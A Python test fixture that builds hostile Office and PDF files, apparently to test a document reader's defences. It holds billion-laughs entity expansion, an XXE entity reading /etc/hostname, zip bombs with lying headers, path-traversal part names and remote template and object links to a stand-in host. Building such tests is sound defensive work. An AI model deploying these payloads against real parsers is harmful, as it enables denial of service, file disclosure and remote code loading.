"""Documents that are built to harm whoever opens them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.documents.reading.editing import DOCUMENT, document, packed, paragraph, unpacked

MEGABYTE = 1_000_000

_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{n} "{"&a" + str(n - 1 if n > 1 else "") + ";" * 1}">' for n in (1,))
    + "".join(
        f'<!ENTITY b{n} "{("&b" + str(n - 1) + ";") * 10 if n else "ha"}">' for n in range(12)
    )
    + "]><x>&b11;</x>"
)


def _with(name: str, content: bytes) -> bytes:
    return packed({**unpacked(document(paragraph("x"))), name: content})


def _text_part(content: bytes) -> bytes:
    return _with(DOCUMENT, content)


def _large_part(name: str, size: int = 200 * MEGABYTE) -> bytes:
    """A part that unpacks to 200 MB of white space; deflated in pieces, to spare our own memory."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = b" " * MEGABYTE
    crc, body = 0, []
    for _ in range(size // MEGABYTE):
        crc = zlib.crc32(piece, crc)
        body.append(packer.compress(piece))
    body.append(packer.flush())
    return _raw(name, b"".join(body), crc, size)


def _raw(name: str, body: bytes, crc: int, size: int) -> bytes:
    """A package with one more part, whose header says what it is told to say."""
    base = unpacked(document(paragraph("x")))
    base.pop(name, None)
    start = packed(base)
    end = start.rindex(b"PK\x05\x06")
    directory_at = struct.unpack("<I", start[end + 16 : end + 20])[0]
    directory = start[directory_at:end]
    label = name.encode()
    common = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 0x21, crc, len(body), size, len(label), 0)
    local = b"PK\x03\x04" + common + label + body
    entry = b"PK\x01\x02" + struct.pack("<H", 20) + common
    entry += struct.pack("<HHHII", 0, 0, 0, 0, directory_at) + label
    count = len(base) + 1
    directory += entry
    tail = struct.pack(
        "<4sHHHHIIH",
        b"PK\x05\x06",
        0,
        0,
        count,
        count,
        len(directory),
        directory_at + len(local),
        0,
    )
    return start[:directory_at] + local + directory + tail


def _lying_size() -> bytes:
    """200 MB that the header calls ten bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = b" " * MEGABYTE
    body = b"".join([*(packer.compress(piece) for _ in range(200)), packer.flush()])
    return _raw(DOCUMENT, body, 0, 10)


def _relationship(kind: str, target: str) -> bytes:
    return _with(
        "word/_rels/document.xml.rels",
        (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r9" TargetMode="External" Type="http://schemas.openxmlformats.org/'
            f'officeDocument/2006/relationships/{kind}" Target="{target}"/></Relationships>'
        ).encode(),
    )


def _many_parts() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(20_000):
            archive.writestr(f"word/{number}.xml", b"")
    return buffer.getvalue()


def _deep() -> bytes:
    depth = 100_000
    return _text_part(b"<a>" * depth + b"</a>" * depth)


def _encrypted_part() -> bytes:
    data = bytearray(document(paragraph("x")))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


HOSTILE: dict[str, Callable[[], bytes]] = {
    "entity expansion": lambda: _text_part(_LAUGHS.encode()),
    "entity expansion in UTF-16": lambda: _text_part(
        _LAUGHS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
    ),
    "external entity": lambda: _text_part(
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]><x>&a;</x>'
    ),
    "external document type": lambda: _text_part(b'<!DOCTYPE x SYSTEM "http://a.example/x"><x/>'),
    "200 MB of text": lambda: _large_part(DOCUMENT),
    "200 MB in another part": lambda: _large_part("word/media/image1.png"),
    "200 MB called ten bytes": _lying_size,
    "9 MB of XML": lambda: _text_part(b"<x>" + b"<y/>" * 2_250_000 + b"</x>"),
    "path above the package": lambda: _with("../outside.xml", b"<x/>"),
    "absolute path": lambda: _with("/outside.xml", b"<x/>"),
    "path with a drive": lambda: _with("C:/outside.xml", b"<x/>"),
    "path with backslashes": lambda: _with("..\\outside.xml", b"<x/>"),
    "a part twice": lambda: _with("word/Document.xml", b"<x/>"),
    "20,000 parts": _many_parts,
    "template from elsewhere": lambda: _relationship("attachedTemplate", "http://a.example/x.dotm"),
    "picture from a share": lambda: _relationship("image", "\\\\a.example\\x.png"),
    "object from elsewhere": lambda: _relationship("oleObject", "https://a.example/x"),
    "nested too deeply": _deep,
    "an encrypted part": _encrypted_part,
    "PDF with a record that unpacks to 200 MB": lambda: _pdf_bomb(),
    "PDF with a record that is no record": lambda: _pdf(b"[" * 200_000),
}


def _pdf(record: bytes) -> bytes:
    import pikepdf

    buffer = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.attachments["record.json"] = record
        pdf.save(buffer)
    return buffer.getvalue()


def _pdf_bomb() -> bytes:
    return _pdf(b" " * (200 * MEGABYTE))
